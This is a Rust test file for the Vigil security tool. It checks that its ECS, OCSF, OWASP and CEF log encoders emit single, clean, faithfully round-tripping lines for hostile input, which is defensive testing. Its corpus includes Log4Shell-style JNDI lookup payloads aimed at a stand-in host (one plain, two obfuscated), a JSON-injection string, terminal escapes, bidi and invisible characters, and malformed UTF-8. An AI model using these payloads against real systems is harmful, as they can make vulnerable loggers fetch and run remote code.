//! Every format, every field Vigil copies, hostile input (issue 8): exactly one line of
//! valid UTF-8 with no raw control, separator, bidi, invisible or TAG character, that parses
//! back with the format's own rules to the value as sent (or its marked truncation).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use serde_json::Value;
use vigil_policies::action::Action;
use vigil_policies::encode::encode;
use vigil_policies::escape::{must_escape, TRUNCATION_MARKER};
use vigil_policies::event::{AlertInfo, Event, User, UserSource};
use vigil_policies::policy::Format;

const CAP: usize = 1024;

/// The hostile corpus.
fn corpus() -> Vec<Vec<u8>> {
    let mut v: Vec<Vec<u8>> = [
        "plain",
        "",
        "CORP\\alice",
        "a\r\nb\u{85}c\u{2028}d\u{2029}e\0f\u{1b}[31mred\u{1b}[0m\u{7}",
        "\u{202e}evil\u{202c}\u{2066}x\u{2069}\u{200b}\u{200c}\u{200d}\u{2060}\u{ad}\u{feff}",
        "tag\u{e0041}\u{e0042}\u{e007f}",
        "\"},{\"admin\":true",
        "a|b=c\\d|e\\=f",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://x/}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
        "<U+200B> looks like an escape",
        "ends with the marker…[truncated]",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();
    v.extend([
        b"\xC0\xA7\xC0\xA2".to_vec(),
        b"\x80\xBF lone".to_vec(),
        b"\xED\xA0\x80 surrogate".to_vec(),
        b"\xF4\x90\x80\x80 above".to_vec(),
        b"trunc\xE2\x82".to_vec(),
        (0u8..=255).collect(),
        vec![b'a'; 1023],
        vec![b'a'; 1024],
        vec![b'a'; 1025],
        "é".repeat(2000).into_bytes(),
        "\u{1F600}".repeat(600).into_bytes(),
        vec![b'x'; 1 << 20],
    ]);
    v
}

fn event(v: &[u8]) -> Event {
    let mut u = User::new(v.to_vec(), UserSource::LoginBody, false);
    u.ambiguous = true;
    Event {
        time_ns: 1_795_424_401_000_000_000,
        id: "id-1".into(),
        action: Some(Action::AuthnLoginFailMax),
        reason: "too_many_login_failures".into(),
        rule: "brute_force".into(),
        source_ip: "203.0.113.7".parse().ok(),
        source_port: Some(40001),
        user: Some(u),
        user_agent: Some(v.to_vec()),
        method: Some(b"POST".to_vec()),
        domain: Some(v.to_vec()),
        path: Some(v.to_vec()),
        request_id: Some(v.to_vec()),
        status: Some(401),
        code_details: Some(v.to_vec()),
        alert: Some(AlertInfo {
            count: 11,
            window_seconds: 60,
            baseline: None,
            confidence: None,
            key: "user",
            value: v.to_vec(),
        }),
        captured: vec![("body", "tenant".into(), v.to_vec())],
        ..Event::default()
    }
}

/// What a value must read back as: the lossy text, or its cut with the marker.
fn expected(v: &[u8], got: &str) -> bool {
    let lossy = String::from_utf8_lossy(v);
    if got == lossy {
        return true;
    }
    match got.strip_suffix(TRUNCATION_MARKER) {
        Some(head) => lossy.starts_with(head) && got.encode_utf16().count() <= CAP && lossy != head,
        None => false,
    }
}

fn clean_line(line: &str) {
    assert!(!line.contains('\n') && !line.contains('\r'));
    for c in line.chars() {
        assert!(!must_escape(c), "raw {c:?} in a record");
    }
}

#[test]
fn json_formats_read_back_every_hostile_value() {
    for v in corpus() {
        let e = event(&v);
        for (f, paths) in [
            (
                Format::Ecs,
                vec![
                    "/user/name",
                    "/user_agent/original",
                    "/url/path",
                    "/url/domain",
                    "/http/request/id",
                    "/vigil/response_code_details",
                    "/vigil/alert/value",
                    "/vigil/captured/body/tenant",
                ],
            ),
            (
                Format::Ocsf,
                vec![
                    "/evidences/0/user/name",
                    "/evidences/0/http_request/user_agent",
                    "/evidences/0/http_request/url/path",
                    "/unmapped/vigil/alert/value",
                    "/unmapped/vigil/captured/body/tenant",
                ],
            ),
            (
                Format::Owasp,
                vec![
                    "/useragent",
                    "/request_uri",
                    "/hostname",
                    "/vigil/user_name",
                ],
            ),
        ] {
            let (line, _) = encode(f, &e, CAP);
            clean_line(&line);
            let j: Value =
                serde_json::from_str(&line).unwrap_or_else(|err| panic!("{f:?}: {err}: {line}"));
            for p in paths {
                let got = j.pointer(p).and_then(Value::as_str);
                let got = got.unwrap_or_else(|| panic!("{f:?} {p} missing: {line}"));
                assert!(expected(&v, got), "{f:?} {p}: {got:?} for {v:?}");
            }
        }
    }
}

/// Undoes CEF's extension escapes (`\\`, `\=`, `\n`, `\r`); `<U+XXXX>` marks stay.
fn cef_unescape(s: &str) -> String {
    let mut out = String::new();
    let mut it = s.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            match it.next() {
                Some('n') => out.push('\n'),
                Some('r') => out.push('\r'),
                Some(x) => out.push(x),
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A CEF line's extension as (key, raw value) pairs: a key is `[A-Za-z0-9_.]+` after a
/// space and before an unescaped `=`.
fn cef_extension(line: &str) -> Vec<(String, String)> {
    let mut bars = 0;
    let mut start = 0;
    let b = line.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'|' => {
                bars += 1;
                if bars == 7 {
                    start = i + 1;
                    break;
                }
            }
            _ => {}
        }
        i += 1;
    }
    assert_eq!(bars, 7, "{line}");
    let ext = &line[start..];
    // Split at ` key=` boundaries (an unescaped `=` preceded by a key).
    let mut out: Vec<(String, String)> = Vec::new();
    let eb = ext.as_bytes();
    let mut k0 = 0;
    let mut j = 0;
    let mut cur: Option<(String, usize)> = None;
    while j < eb.len() {
        if eb[j] == b'\\' {
            j += 2;
            continue;
        }
        if eb[j] == b'=' {
            let ks = ext[..j].rfind(' ').map_or(k0, |s| s + 1);
            let key = &ext[ks..j];
            if !key.is_empty()
                && key
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.')
            {
                if let Some((k, vs)) = cur.take() {
                    out.push((k, ext[vs..ks.saturating_sub(1)].to_string()));
                }
                cur = Some((key.to_string(), j + 1));
                k0 = j + 1;
            }
        }
        j += 1;
    }
    if let Some((k, vs)) = cur {
        out.push((k, ext[vs..].to_string()));
    }
    out
}

/// The value as sent, as CEF shows it: lossy text with every character CEF cannot show
/// as `<U+XXXX>`.
fn cef_shown(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if must_escape(c) && c != '\n' && c != '\r' {
            out.push_str(&format!("<U+{:04X}>", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn cef_reads_back_every_hostile_value() {
    for v in corpus() {
        let e = event(&v);
        let (line, _) = encode(Format::Cef, &e, CAP);
        clean_line(&line);
        assert!(line.starts_with("CEF:0|Vigil|Vigil|"), "{line}");
        let ext = cef_extension(&line);
        for key in [
            "suser",
            "requestClientApplication",
            "request",
            "dhost",
            "vigilCaptured_body_tenant",
        ] {
            let (_, raw) = ext
                .iter()
                .find(|(k, _)| k == key)
                .unwrap_or_else(|| panic!("{key} missing: {line}"));
            let got = cef_unescape(raw);
            let lossy = String::from_utf8_lossy(&v).into_owned();
            let want = cef_shown(&lossy);
            let ok = got == want
                || got
                    .strip_suffix(TRUNCATION_MARKER)
                    .is_some_and(|h| want.starts_with(h));
            assert!(ok, "{key}: {got:?} for {lossy:?}");
        }
    }
}

#[cfg(not(target_arch = "wasm32"))]
mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn every_encoder_gives_one_clean_line_for_any_bytes(
            v in proptest::collection::vec(any::<u8>(), 0..300),
            cap in 16usize..400,
        ) {
            let e = event(&v);
            for f in Format::ALL {
                let (line, _) = encode(f, &e, cap);
                clean_line(&line);
                if f != Format::Cef {
                    let j: Value = serde_json::from_str(&line).unwrap();
                    prop_assert!(j.is_object());
                }
            }
        }
    }
}
